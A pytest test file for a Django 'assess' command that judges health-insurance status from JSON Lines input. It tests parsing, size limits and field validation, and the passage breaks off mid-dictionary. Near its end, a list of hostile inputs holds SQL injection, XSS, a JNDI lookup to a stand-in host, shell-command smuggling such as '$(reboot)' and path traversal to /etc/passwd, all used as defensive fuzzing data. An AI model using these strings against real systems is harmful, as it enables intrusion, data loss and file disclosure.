"""``manage.py assess``: every line is answered, whatever stands in it or in the lines around it."""

import io
import json
import re
import signal
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

Json = dict[str, Any]

DAY = "a calendar date written YYYY-MM-DD"
MONTH = "a month written YYYY-MM"
RANGE = "dates from 2024-01-01 to 2027-12-31"
TOO_LONG = "one object may have at most"
MEGABYTE = 1_000_000
LONGEST_SECONDS = 10


class Outcome(NamedTuple):
    lines: list[Json]
    status: int
    text: str


class Assess:
    """Runs the command on a text, a file or a stream and reads what it printed."""

    def __init__(self, patch: pytest.MonkeyPatch) -> None:
        self.patch = patch

    def __call__(self, text: str | io.TextIOBase, *arguments: str) -> Outcome:
        self.patch.setattr("sys.stdin", io.StringIO(text) if isinstance(text, str) else text)
        printed, status = io.StringIO(), 0
        try:
            call_command("assess", *arguments, stdout=printed)
        except SystemExit as leaving:
            status = int(leaving.code or 0)
        written = printed.getvalue()
        return Outcome([json.loads(line) for line in written.splitlines()], status, written)


@pytest.fixture(name="assess")
def assess_fixture(monkeypatch: pytest.MonkeyPatch) -> Iterator[Assess]:
    """The command, and an end to it where it finds none by itself."""

    def stop(*_: Any) -> None:
        raise TimeoutError(f"no answer after {LONGEST_SECONDS} seconds")

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(LONGEST_SECONDS)
    try:
        yield Assess(monkeypatch)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


def request(on: str | None = "2026-03-15", **person: Any) -> Json:
    """A question about somebody of 35, known to have nothing but the facts given."""
    asked: Json = {} if on is None else {"on": on}
    return asked | {"person": {"birth_date": "1990-06-10", "unmentioned": "no", **person}}


def one(item: Any) -> str:
    """The question on one line, as a program would write it."""
    return json.dumps(item) + "\n"


GOOD = one(request())
ALSO_GOOD = one(request(circumstances={"disability": True}))


def states(outcome: Outcome) -> list[str]:
    """The status of each line, or where its error lies."""
    return [line["status"] if "status" in line else f"error at {line['error']['path']}" for line in outcome.lines]


def refusal(outcome: Outcome) -> tuple[str, str]:
    """Path and message of the only line, which must be an error and nothing else."""
    assert outcome.status == 2
    assert len(outcome.lines) == 1
    assert outcome.lines[0].keys() == {"error"}
    error = outcome.lines[0]["error"]
    assert error.keys() == {"path", "message"}
    return error["path"], error["message"]


# --- One object ---


def test_one_object(assess: Assess) -> None:
    outcome = assess(GOOD)
    assert outcome.status == 0
    assert states(outcome) == ["not_insured"]
    assert outcome.lines[0]["on"] == "2026-03-15"


def test_the_answer_has_the_keys_of_the_contract(assess: Assess) -> None:
    assert list(assess(GOOD).lines[0]) == [
        "on", "law", "status", "payer", "until", "grounds", "contribution", "diagnoses", "services", "changes",
        "missing", "routes", "notes",
    ]  # fmt: skip


def test_one_object_without_a_line_break_at_its_end(assess: Assess) -> None:
    assert states(assess(GOOD.rstrip())) == ["not_insured"]


@pytest.mark.parametrize("indent", [0, 1, 2, 4, "\t"])
def test_one_object_over_many_lines(assess: Assess, indent: int | str) -> None:
    asked = request(work=[{"kind": "employee", "from": "2020-01-01"}], circumstances={"disability": {}})
    outcome = assess(json.dumps(asked, indent=indent))
    assert outcome.status == 0
    assert states(outcome) == ["insured"]


@pytest.mark.parametrize(
    "text",
    [
        '\n\n{\n"on": "2026-03-15",\n\n"person": {}}\n\n',
        '{"on": "2026-03-15",\n"person": {}}',
        '{"on":\n"2026-03-15", "person":\n{}}',
        '{"person": {"circumstances": {}},\n"on": "2026-03-15"}',
        '{"person": {"birth_date": null}\n, "on": "2026-03-15"}',
        '{"person": {"work": []\n}, "on": "2026-03-15"}',
        '{\r\n"on": "2026-03-15",\r\n"person": {}\r\n}\r\n',
    ],
)
def test_one_object_broken_anywhere(assess: Assess, text: str) -> None:
    outcome = assess(text)
    assert states(outcome) == ["unknown"]
    assert outcome.lines[0]["on"] == "2026-03-15"


def test_a_broken_object_over_many_lines_is_one_error(assess: Assess) -> None:
    path, message = refusal(assess(json.dumps(request(), indent=2)[:-3]))
    assert path == "$"
    assert message.startswith("is not JSON")


def test_an_error_over_many_lines_names_its_path(assess: Assess) -> None:
    path, message = refusal(assess(json.dumps(request(birth_date="soon"), indent=2)))
    assert path == "person.birth_date"
    assert DAY in message


# --- JSON Lines ---


def test_lines_keep_their_order(assess: Assess) -> None:
    days = [f"2026-{month:02d}-{day:02d}" for month in (12, 3, 7) for day in (28, 1, 15)]
    outcome = assess("".join(one(request(on=day)) for day in days))
    assert outcome.status == 0
    assert [line["on"] for line in outcome.lines] == days


def test_every_answer_is_one_line(assess: Assess) -> None:
    outcome = assess(GOOD * 3)
    assert outcome.text.count("\n") == 3
    assert outcome.text.endswith("\n")


def test_blank_lines_are_no_questions(assess: Assess) -> None:
    outcome = assess("\n  \n" + GOOD + "\n\t\n\n" + ALSO_GOOD + " \n\n")
    assert outcome.status == 0
    assert states(outcome) == ["not_insured", "insured"]


@pytest.mark.parametrize("text", ["", "\n", " \n\t\n   "])
def test_nothing_asked_nothing_answered(assess: Assess, text: str) -> None:
    assert assess(text) == ([], 0, "")


BROKEN_LINES = {
    "a word": "garbage",
    "half an object": '{"on": "2026-03-15", "person": {"birth_date": ',
    "an object without its end": '{"on": "2026-03-15", "person": {}',
    "an object that ends twice": '{"person": {}}}',
    "two objects": '{"person": {}} {"person": {}}',
    "a brace": "{",
    "a bracket": "[",
    "a quotation mark": '"',
    "single quotes": "{'person': {}}",
    "a trailing comma": '{"person": {},}',
    "a comment": "// nothing",
    "a closing brace": "}",
    "a control character in a text": '{"person": {"birth_date": "\x01"}}',
    "a byte order mark": '\ufeff{"person": {}}',
    "a word that is no value": "nil",
    "a number": "42",
    "a text": '"person"',
    "null": "null",
    "true": "true",
    "an empty list": "[]",
    "a list with a question": "[" + GOOD.strip() + "]",
    "an empty object": "{}",
    "no person": '{"on": "2026-03-15"}',
    "person null": '{"person": null}',
    "person a list": '{"person": []}',
    "person a text": '{"person": "x"}',
    "NaN": '{"person": NaN}',
    "Infinity": '{"person": {"birth_date": Infinity}}',
    "minus Infinity": '{"person": {"birth_date": -Infinity}}',
    "an infinite income": '{"person": {"work": [{"kind": "employee", "monthly_income": NaN}]}}',
}


@pytest.mark.parametrize("bad", [pytest.param(text, id=name) for name, text in BROKEN_LINES.items()])
@pytest.mark.parametrize("place", [0, 1, 2], ids=["first", "in the middle", "last"])
def test_one_bad_line_among_good_ones(assess: Assess, bad: str, place: int) -> None:
    lines = [GOOD.strip(), ALSO_GOOD.strip()]
    lines.insert(place, bad)
    outcome = assess("\n".join(lines) + "\n")
    expected = ["not_insured", "insured"]
    found = states(outcome)
    assert len(found) == 3, f"{len(found)} answers for 3 lines: {found}"
    error = found.pop(place)
    assert error.startswith("error at ")
    assert found == expected
    assert outcome.status == 2
    assert outcome.lines[place]["error"]["message"]


def test_every_line_may_be_bad(assess: Assess) -> None:
    outcome = assess("garbage\n[]\n{}\n")
    assert [line.keys() for line in outcome.lines] == [{"error"}] * 3
    assert outcome.status == 2


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"])
def test_only_a_line_break_ends_a_line(assess: Assess, separator: str) -> None:
    """JSON allows some of these inside a text, so a line of JSON may contain them."""
    hostile = json.dumps(request(wellbeing_level=f"A{separator}B"), ensure_ascii=False) + "\n"
    outcome = assess(GOOD + hostile + GOOD)
    assert len(outcome.lines) == 3
    assert states(outcome)[::2] == ["not_insured", "not_insured"]
    assert states(outcome)[1].startswith("error at ")


# --- The day asked about ---


@pytest.mark.parametrize(
    ("now", "today"),
    [
        (datetime(2026, 3, 14, 18, 59, 59, tzinfo=UTC), "2026-03-14"),
        (datetime(2026, 3, 14, 19, 0, 0, tzinfo=UTC), "2026-03-15"),
        (datetime(2026, 12, 31, 19, 30, tzinfo=UTC), "2027-01-01"),
        (datetime(2026, 12, 31, 12, 0, tzinfo=UTC), "2026-12-31"),
    ],
)
def test_without_a_day_it_is_today_in_almaty(
    assess: Assess, monkeypatch: pytest.MonkeyPatch, now: datetime, today: str
) -> None:
    monkeypatch.setattr(timezone, "now", lambda: now)
    outcome = assess(one(request(on=None)) + one({"on": None} | request(on=None)) + one(request()))
    assert [line["on"] for line in outcome.lines] == [today, today, "2026-03-15"]


def test_on_overrides_the_day_of_every_line(assess: Assess) -> None:
    outcome = assess(one(request()) + one(request(on="2026-12-31")) + one(request(on=None)), "--on", "2025-07-01")
    assert [line["on"] for line in outcome.lines] == ["2025-07-01"] * 3


def test_on_overrides_the_clock(assess: Assess, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(timezone, "now", lambda: datetime(2031, 1, 1, tzinfo=UTC))
    assert assess(one(request(on=None)), "--on=2026-03-15").status == 0


def test_today_may_lie_outside_the_law(assess: Assess, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(timezone, "now", lambda: datetime(2031, 1, 1, tzinfo=UTC))
    path, message = refusal(assess(one(request(on=None))))
    assert path == "on"
    assert RANGE in message


@pytest.mark.parametrize("bad", ["tomorrow", "2026-02-30", "2026-13-01", "15.03.2026", "", "0000-01-01", "2026-3-1"])
def test_a_bad_on_is_refused_before_anything_is_read(assess: Assess, bad: str) -> None:
    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        assess(GOOD, f"--on={bad}")


@pytest.mark.parametrize("on", ["2023-12-31", "2028-01-01", "0001-01-01", "9999-12-31"])
def test_a_day_outside_the_law_is_refused_with_the_days_it_is_known_for(assess: Assess, on: str) -> None:
    person = {"unmentioned": "no"}
    for outcome in (assess(one({"on": on, "person": person})), assess(one({"person": person}), "--on", on)):
        path, message = refusal(outcome)
        assert path == "on"
        assert RANGE in message


# --- Files and standard input ---


def test_a_file(assess: Assess, tmp_path: Path) -> None:
    path = tmp_path / "люди.jsonl"
    path.write_text(GOOD + ALSO_GOOD, encoding="utf-8")
    assert states(assess("nothing of this is read", str(path))) == ["not_insured", "insured"]


def test_a_file_with_windows_line_breaks(assess: Assess, tmp_path: Path) -> None:
    path = tmp_path / "people.jsonl"
    path.write_bytes((GOOD + ALSO_GOOD).replace("\n", "\r\n").encode())
    assert states(assess("", str(path))) == ["not_insured", "insured"]


def test_a_dash_is_standard_input(assess: Assess) -> None:
    assert states(assess(GOOD, "-")) == ["not_insured"]


@pytest.mark.parametrize("name", ["", "absent.jsonl", "absent/absent.jsonl"])
def test_a_file_that_cannot_be_read(assess: Assess, tmp_path: Path, name: str) -> None:
    with pytest.raises(CommandError, match=re.escape(str(tmp_path))):
        assess("", str(tmp_path / name))


NOT_UTF_8 = GOOD.encode() + b'{"person": {"birth_date": "\xff\xfe\xd0"}}\n' + ALSO_GOOD.encode()


def test_bytes_that_are_no_text_in_a_file(assess: Assess, tmp_path: Path) -> None:
    path = tmp_path / "people.jsonl"
    path.write_bytes(NOT_UTF_8)
    assert states(assess("", str(path))) == ["not_insured", "error at person.birth_date", "insured"]


def test_bytes_that_are_no_text_on_standard_input(assess: Assess) -> None:
    stream = io.TextIOWrapper(io.BytesIO(NOT_UTF_8), encoding="utf-8")  # as Python opens it
    assert states(assess(stream)) == ["not_insured", "error at person.birth_date", "insured"]


def test_a_line_of_zero_bytes(assess: Assess) -> None:
    outcome = assess(GOOD + "\0" * 5000 + "\n" + GOOD)
    assert states(outcome) == ["not_insured", "error at $", "not_insured"]


# --- Too much of everything ---


def ten_megabytes() -> str:
    return json.dumps(request(birth_date="9" * 10 * MEGABYTE))


def test_one_object_of_ten_megabytes(assess: Assess) -> None:
    path, message = refusal(assess(ten_megabytes()))
    assert path == "$"
    assert TOO_LONG in message


def test_one_object_of_ten_megabytes_over_many_lines(assess: Assess) -> None:
    people = request(care_sought=["2026-03-01"] * 700_000)
    path, message = refusal(assess(json.dumps(people, indent=1)))
    assert path == "$"
    assert TOO_LONG in message


def test_an_object_of_spaces(assess: Assess) -> None:
    path, message = refusal(assess("{" + " " * 10 * MEGABYTE + "}"))
    assert path == "$"
    assert TOO_LONG in message


@pytest.mark.parametrize("place", [0, 1, 2], ids=["first", "in the middle", "last"])
def test_a_line_of_ten_megabytes_among_good_ones(assess: Assess, place: int) -> None:
    lines = [GOOD.strip(), ALSO_GOOD.strip()]
    lines.insert(place, ten_megabytes())
    outcome = assess("\n".join(lines) + "\n")
    expected = ["not_insured", "insured"]
    expected.insert(place, "error at $")
    assert states(outcome) == expected
    assert TOO_LONG in outcome.lines[place]["error"]["message"]
    assert outcome.status == 2


def test_a_long_line_is_not_held_in_memory(assess: Assess, tmp_path: Path) -> None:
    path = tmp_path / "people.jsonl"
    path.write_text(GOOD + "x" * 40 * MEGABYTE + "\n" + GOOD)
    tracemalloc.start()
    try:
        outcome = assess("", str(path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert states(outcome) == ["not_insured", "error at $", "not_insured"]
    assert peak < 20 * MEGABYTE


def test_blanks_without_end_are_no_question(assess: Assess) -> None:
    outcome = assess("\n" * MEGABYTE + " " * 3 * MEGABYTE + "\n" + GOOD)
    assert states(outcome) == ["not_insured"]


@pytest.mark.parametrize("depth", [50, 900, 5_000, 100_000])
@pytest.mark.parametrize(("opening", "closing"), [("[", "]"), ('{"a":', "}")], ids=["lists", "objects"])
def test_deep_nesting(assess: Assess, opening: str, closing: str, depth: int) -> None:
    value = opening * depth + ("1" if closing == "}" else "") + closing * depth
    lines = [
        value,
        f'{{"person": {value}}}',
        f'{{"person": {{"work": {value}}}}}',
        f'{{"person": {{"pension": {value}}}}}',
    ]
    outcome = assess(GOOD + "\n".join(lines) + "\n" + GOOD)
    assert len(outcome.lines) == 6
    assert outcome.status == 2
    assert states(outcome)[::5] == ["not_insured", "not_insured"]
    assert all(line["error"]["message"] for line in outcome.lines[1:-1])


HUGE = [
    "9" * 19,
    "9" * 400,
    "9" * 4299,
    "9" * 4300,
    "9" * 4301,
    "9" * 100_000,
    "1e400",
    "-" + "9" * 5000,
    "1E999999999",
]
NO_INCOME = ["-1", "0.5", "1.0", "1e3", "1e400", "-0.0", "true", '"300000"', "[]", "{}", *HUGE]


@pytest.mark.parametrize("number", NO_INCOME, ids=lambda text: text[:12] + f"({len(text)})")
def test_an_income_that_is_no_sum_of_tenge(assess: Assess, number: str) -> None:
    bad = f'{{"person": {{"work": [{{"kind": "employee", "monthly_income": {number}}}]}}}}\n'
    outcome = assess(GOOD + bad + GOOD)
    assert states(outcome)[::2] == ["not_insured", "not_insured"]
    assert len(outcome.lines) == 3
    error = outcome.lines[1]["error"]
    assert error["path"] in ("person.work[0].monthly_income", "$")
    assert re.search(r"whole number of tenge|from 0 to \d+ tenge|numbers must be short and finite", error["message"])


@pytest.mark.parametrize("number", HUGE, ids=lambda text: text[:12] + f"({len(text)})")
@pytest.mark.parametrize(
    "where",
    [
        '{"on": %s, "person": {}}',
        '{"person": %s}',
        '{"person": {"birth_date": %s}}',
        '{"person": {"wellbeing_level": %s}}',
        '{"person": {"care_sought": [%s]}}',
        '{"person": {"circumstances": {"disability": {"group": %s}}}}',
        '{"person": {"circumstances": {"pension": %s}}}',
        '{"person": {"contributions": [{"kind": "employee", "from": %s}]}}',
        '{"person": {"diagnoses": [{"icd10": %s}]}}',
        '{"%s": 1}',
    ],
)
def test_huge_numbers_anywhere(assess: Assess, where: str, number: str) -> None:
    outcome = assess(GOOD + where % number + "\n" + GOOD)
    assert states(outcome)[::2] == ["not_insured", "not_insured"]
    assert outcome.lines[1]["error"]["message"]
    assert len(outcome.text) < 100_000


@pytest.mark.parametrize(
    ("person", "path"),
    [
        ({"care_sought": ["2026-03-01"] * 601}, "person.care_sought"),
        ({"work": [{"kind": "employee"}] * 601}, "person.work"),
        ({"contributions": [{"kind": "employee", "from": "2025-01"}] * 601}, "person.contributions"),
        ({"diagnoses": [{"icd10": "G80"}] * 601}, "person.diagnoses"),
        ({"circumstances": {"disability": [{"from": "2020-01-01"}] * 601}}, "person.circumstances.disability"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_too_many_items(assess: Assess, person: Json, path: str) -> None:
    where, message = refusal(assess(one(request(**person))))
    assert where == path
    assert "at most 600" in message


@pytest.mark.parametrize("kind", ["self_payer", "employee", "civil_contract", "entrepreneur", "self_employed_regime"])
@pytest.mark.parametrize(("first", "last"), [("2026-04", "2026-04"), ("2026-08", "2027-02"), ("2025-01", "2027-12")])
def test_payments_of_a_person_of_whom_nothing_else_is_known(assess: Assess, kind: str, first: str, last: str) -> None:
    """Whether the state paid for the months before is not known then; the answer must not wait for it."""
    person = {"contributions": [{"kind": kind, "from": first, "to": last}]}
    outcome = assess("".join(one({"on": f"2026-{month:02d}-28", "person": person}) for month in (1, 4, 12)))
    assert outcome.status == 0
    assert {state in ("insured", "unknown") for state in states(outcome)} == {True}


# --- Facts that cannot be read ---

WRONG_DAYS = [
    "", " ", "2026-02-29", "2025-02-30", "2026-13-01", "2026-00-10", "2026-01-00", "2026-1-1", "20260101", "2026/01/01",
    "01.02.2026", "2026-01-01T00:00:00", "2026-01-01 ", "+2026-01-01", "-2026-01-01", "0000-01-01", "99999-01-01",
    "2026-W10-1", "2026-074", "２０２６-０１-０１", "today", "NaN", "null", 20260101, 1.5, True, False, [], {},
    ["2026-01-01"], {"from": "2026-01-01"},
]  # fmt: skip
WRONG_MONTHS = [
    "", "2026", "2026-13", "2026-00", "2026-1", "202601", "2026-01-01", "01-2026", "2026-01 ", "0000-01", "1949-12",
    "2100-02", "9999-12", "２０２６-０１", 202601, True, [], {},
]  # fmt: skip


@pytest.mark.parametrize("bad", WRONG_DAYS, ids=repr)
@pytest.mark.parametrize(
    ("path", "build"),
    [
        ("on", lambda bad: {"on": bad, "person": {}}),
        ("person.birth_date", lambda bad: request(birth_date=bad)),
        ("person.care_sought[1]", lambda bad: request(care_sought=["2026-01-01", bad])),
        ("person.work[0].from", lambda bad: request(work=[{"kind": "employee", "from": bad}])),
        ("person.work[0].to", lambda bad: request(work=[{"kind": "employee", "to": bad}])),
        ("person.circumstances.pension.from", lambda bad: request(circumstances={"pension": {"from": bad}})),
        ("person.circumstances.remand[0].to", lambda bad: request(circumstances={"remand": [{"to": bad}]})),
        (
            "person.circumstances.raising_child_under_3.child_birth_date",
            lambda bad: request(circumstances={"raising_child_under_3": {"child_birth_date": bad}}),
        ),
        ("person.diagnoses[0].since", lambda bad: request(diagnoses=[{"icd10": "I21", "since": bad}])),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_wrong_days(assess: Assess, path: str, build: Callable[[Any], Json], bad: Any) -> None:
    assert refusal(assess(one(build(bad)))) == (path, f"must be {DAY}")


@pytest.mark.parametrize("bad", WRONG_MONTHS, ids=repr)
@pytest.mark.parametrize(
    ("path", "build"),
    [
        ("person.last_pension_contribution", lambda bad: request(last_pension_contribution=bad)),
        ("person.contributions[0].from", lambda bad: request(contributions=[{"kind": "employee", "from": bad}])),
        (
            "person.contributions[0].to",
            lambda bad: request(contributions=[{"kind": "employee", "from": "2025-01", "to": bad}]),
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_wrong_months(assess: Assess, path: str, build: Callable[[Any], Json], bad: Any) -> None:
    where, message = refusal(assess(one(build(bad))))
    assert where == path
    assert MONTH in message


def test_a_birth_in_the_future(assess: Assess) -> None:
    path, message = refusal(assess(one(request(birth_date="2026-03-16"))))
    assert path == "person.birth_date"
    assert "after the day asked about" in message
    assert assess(one(request(birth_date="2026-03-15"))).status == 0
    assert refusal(assess(one(request(birth_date="2026-03-15")), "--on", "2026-03-14"))[0] == "person.birth_date"


@pytest.mark.parametrize(
    ("person", "path"),
    [
        ({"work": [{"kind": "employee", "from": "2026-02-02", "to": "2026-02-01"}]}, "person.work[0].to"),
        (
            {"circumstances": {"disability": {"from": "2026-02-02", "to": "2026-02-01"}}},
            "person.circumstances.disability.to",
        ),
        (
            {"circumstances": {"remand": [{}, {"from": "2026-02-02", "to": "2026-02-01"}]}},
            "person.circumstances.remand[1].to",
        ),
        (
            {"contributions": [{"kind": "employee", "from": "2026-02", "to": "2026-01"}]},
            "person.contributions[0].to",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_period_that_ends_before_it_starts(assess: Assess, person: Json, path: str) -> None:
    where, message = refusal(assess(one(request(**person))))
    assert where == path
    assert "is before from" in message


ONE_DAY = {"from": "2026-03-15", "to": "2026-03-15"}


@pytest.mark.parametrize(
    "person",
    [
        {"work": [{"kind": "serviceman", **ONE_DAY}]},
        {"circumstances": {"disability": ONE_DAY}},
        {"contributions": [{"kind": "employee", "from": "2026-03", "to": "2026-03"}]},
    ],
)
def test_a_period_of_one_day_or_month(assess: Assess, person: Json) -> None:
    assert states(assess(one(request(**person)))) == ["insured"]


FARTHEST = ["0001-01-01", "1900-02-28", "2099-12-31", "9990-01-01", "9997-03-01", "9999-06-30", "9999-12-31"]
LONG = {"from": "0001-01-01"}
FAR: dict[str, Callable[[str], Json]] = {
    "infarction": lambda far: {"diagnoses": [{"icd10": "I21", "since": far}]},
    "stroke": lambda far: {"diagnoses": [{"icd10": "I63", "since": far}]},
    "care": lambda far: {"care_sought": [far], "wellbeing_level": "D", "polyclinic_attached": True},
    "child": lambda far: {"circumstances": {"raising_child_under_3": {"from": "2020-01-01", "child_birth_date": far}}},
    "undated child": lambda far: {"circumstances": {"raising_child_under_3": {"child_birth_date": far}}},
    "end of a job": lambda far: {"work": [{"kind": "employee", **LONG, "to": far}]},
    "start of a business": lambda far: {"work": [{"kind": "entrepreneur", "from": far}]},
    "end of a disability": lambda far: {"circumstances": {"disability": {**LONG, "to": far}}},
    "end of study": lambda far: {"circumstances": {"full_time_study": {**LONG, "to": far}}},
    "end of a kandas status": lambda far: {"circumstances": {"kandas_status": {**LONG, "to": far}}},
    "end of a temporary status": lambda far: {"circumstances": {"temporary_status": {**LONG, "to": far}}},
    "end of a sentence": lambda far: {"circumstances": {"imprisonment": {**LONG, "to": far, "security": "minimum"}}},
    "start of a pension": lambda far: {"circumstances": {"pension": {"from": far}}},
    "start of a pregnancy": lambda far: {"circumstances": {"pregnancy": {"from": far}}},
    "start of a kandas status": lambda far: {"circumstances": {"kandas_status": {"from": far}}},
    "start of a temporary status": lambda far: {"circumstances": {"temporary_status": {"from": far}}},
}


@pytest.mark.parametrize("far", FARTHEST)
@pytest.mark.parametrize("fact", FAR)
def test_days_at_the_ends_of_the_calendar(assess: Assess, fact: str, far: str) -> None:
    """They are answered or refused with a path."""
    person = FAR[fact](far)
    outcome = assess(GOOD + one(request(**person)) + one(request(on="2027-12-31", **person)) + GOOD)
    assert len(outcome.lines) == 4
    assert states(outcome)[::3] == ["not_insured", "not_insured"]


def test_a_birth_on_the_first_day_of_the_calendar(assess: Assess) -> None:
    assert states(assess(one(request(birth_date="0001-01-01")))) == ["not_insured"]


UNKNOWN_CODES = [
    ("person.residence", {"residence": "martian"}, "citizen"),
    ("person.unmentioned", {"unmentioned": "yes"}, "unknown, no"),
    ("person.wellbeing_level", {"wellbeing_level": "F"}, "A, B, C, D, E"),
    ("person.wellbeing_level", {"wellbeing_level": "d"}, "A, B, C, D, E"),
    ("person.wellbeing_level", {"wellbeing_level": "Д"}, "A, B, C, D, E"),
    ("person.work[0].kind", {"work": [{"kind": "boss"}]}, "employee, civil_contract"),
    ("person.work[0].kind", {"work": [{}]}, "employee, civil_contract"),
    ("person.contributions[0].kind", {"contributions": [{"kind": "subsidised_job", "from": "2026-01"}]}, "self_payer"),
    ("person.contributions[0].from", {"contributions": [{"kind": "employee"}]}, MONTH),
    ("person.circumstances.imprisonment.security", {"circumstances": {"imprisonment": {"security": "low"}}}, "minimum"),
    ("person.circumstances.disability.group", {"circumstances": {"disability": {"group": 4}}}, "1, 2 or 3"),
    ("person.circumstances.disability.group", {"circumstances": {"disability": {"group": "1"}}}, "1, 2 or 3"),
    ("person.circumstances.disability.group", {"circumstances": {"disability": {"group": True}}}, "1, 2 or 3"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "XYZ"}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "G8"}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "G89"}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "g80"}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "G80."}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "G80.1\n"}]}, "ICD-10"),
    ("person.diagnoses[0].icd10", {"diagnoses": [{"icd10": "С50"}]}, "ICD-10"),  # a Cyrillic С
    ("person.diagnoses[0].group", {"diagnoses": [{"group": "flu"}]}, "tuberculosis, hiv"),
    ("person.diagnoses[0]", {"diagnoses": [{}]}, "icd10 or group"),
    ("person.diagnoses[0].suspected", {"diagnoses": [{"icd10": "C50", "suspected": "yes"}]}, "true or false"),
    ("person.polyclinic_attached", {"polyclinic_attached": "yes"}, "true or false"),
    ("person.polyclinic_attached", {"polyclinic_attached": 1}, "true or false"),
    ("person.work[0].suspended", {"work": [{"kind": "entrepreneur", "suspended": 0}]}, "true or false"),
    ("person.work[0].suspended", {"work": [{"kind": "employee", "suspended": True}]}, "entrepreneur"),
    ("person.work", {"work": True}, "list"),
    ("person.work", {"work": {"kind": "employee"}}, "list"),
    ("person.work[0]", {"work": ["employee"]}, "kind"),
    ("person.care_sought", {"care_sought": "2026-03-01"}, "list"),
    ("person.circumstances", {"circumstances": []}, "pregnancy"),
    ("person.circumstances.pension", {"circumstances": {"pension": "yes"}}, "true, false, a period or a list"),
    ("person.circumstances.pension", {"circumstances": {"pension": 1}}, "true, false, a period or a list"),
    ("person.circumstances.pension[0]", {"circumstances": {"pension": [True]}}, "from, to"),
    ("person.circumstances.pension.group", {"circumstances": {"pension": {"group": 1}}}, "allowed: from, to"),
    ("person.circumstances.retired", {"circumstances": {"retired": True}}, "allowed: pregnancy"),
    ("person.name", {"name": "Aigul"}, "allowed: unmentioned, birth_date"),
    ("person.iin", {"iin": "990101100000"}, "allowed: unmentioned, birth_date"),
]


@pytest.mark.parametrize(("path", "person", "allowed"), UNKNOWN_CODES, ids=repr)
def test_unknown_codes_are_refused_and_the_known_ones_named(
    assess: Assess, path: str, person: Json, allowed: str
) -> None:
    where, message = refusal(assess(one(request(**person))))
    assert where == path
    assert allowed in message


def test_an_unknown_key_beside_the_person(assess: Assess) -> None:
    path, message = refusal(assess(one({**request(), "who": 1})))
    assert path == "who"
    assert "on, person" in message


def test_null_is_the_same_as_absent(assess: Assess) -> None:
    nothing: Json = {"on": "2026-03-15", "person": {}}
    keys = [
        "unmentioned", "birth_date", "residence", "work", "circumstances", "wellbeing_level",
        "last_pension_contribution", "polyclinic_attached", "care_sought", "contributions", "diagnoses",
    ]  # fmt: skip
    nulls = [{"on": "2026-03-15", "person": {key: None}} for key in keys]
    outcome = assess("".join(map(one, [nothing, *nulls])))
    different = {key: line for key, line in zip(keys, outcome.lines[1:], strict=True) if line != outcome.lines[0]}
    assert different == {}


def test_null_inside_a_period_a_job_or_a_diagnosis_is_the_same_as_absent(assess: Assess) -> None:
    short = request(
        circumstances={"disability": {"from": "2020-01-01"}, "imprisonment": {}, "raising_child_under_3": {}},
        work=[{"kind": "entrepreneur"}],
        contributions=[{"kind": "employee", "from": "2025-01"}],
        diagnoses=[{"icd10": "C50"}],
    )
    long = request(
        circumstances={
            "disability": {"from": "2020-01-01", "to": None, "group": None},
            "imprisonment": {"from": None, "to": None, "security": None},
            "raising_child_under_3": {"from": None, "to": None, "child_birth_date": None},
            "pension": None,
        },
        work=[{"kind": "entrepreneur", "from": None, "to": None, "monthly_income": None, "suspended": None}],
        contributions=[{"kind": "employee", "from": "2025-01", "to": None}],
        diagnoses=[{"icd10": "C50", "group": None, "since": None, "suspected": None}],
    )
    outcome = assess(one(short) + one(long))
    assert outcome.status == 0
    assert outcome.lines[0] == outcome.lines[1]


# --- Hostile texts in every field that holds a text, and in every place for a key ---

HOSTILE = [
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "{{ 7*7 }}",
    "{% load static %}",
    "${jndi:ldap://x.example/a}",
    "$(reboot)",
    "`reboot`",
    "| reboot",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "/dev/zero",
    "C:\\con",
    "%s%s%s%n",
    "%x" * 50,
    "{0}{1}{person.__class__}",
    "{}",
    "__proto__",
    "__class__",
    "constructor",
    "\0",
    "A\0",
    "2026-01-01\0",
    "\x01\x02\x1b[31m\x07\x7f",
    "\x1b]0;title\x07",
    "\r\nSet-Cookie: a=b",
    "\u202e2026-01-01\u202c",
    "\u200b\u200d\ufeff",
    "\u2028\u2029\x85",
    "😀👩‍👩‍👧‍👦🇰🇿",
    "z̷̢̛͖" * 20,
    "ﷺ",
    "\ud800",
    "\udfff\ud800",
    "А" * 100_000,
    " ",
    "",
    "nan",
    "-1e309",
    "٢٠٢٦-٠١-٠١",
    "D ",
    "null",
    "true",
]
FIELDS: dict[str, tuple[Callable[[str], Json], str]] = {
    "on": (lambda text: {"on": text, "person": {}}, DAY),
    "person": (lambda text: {"person": text}, "object"),
    "person.unmentioned": (lambda text: request(unmentioned=text), "unknown, no"),
    "person.birth_date": (lambda text: request(birth_date=text), DAY),
    "person.residence": (lambda text: request(residence=text), "citizen, kandas"),
    "person.work": (lambda text: request(work=text), "list"),
    "person.work[0]": (lambda text: request(work=[text]), "kind"),
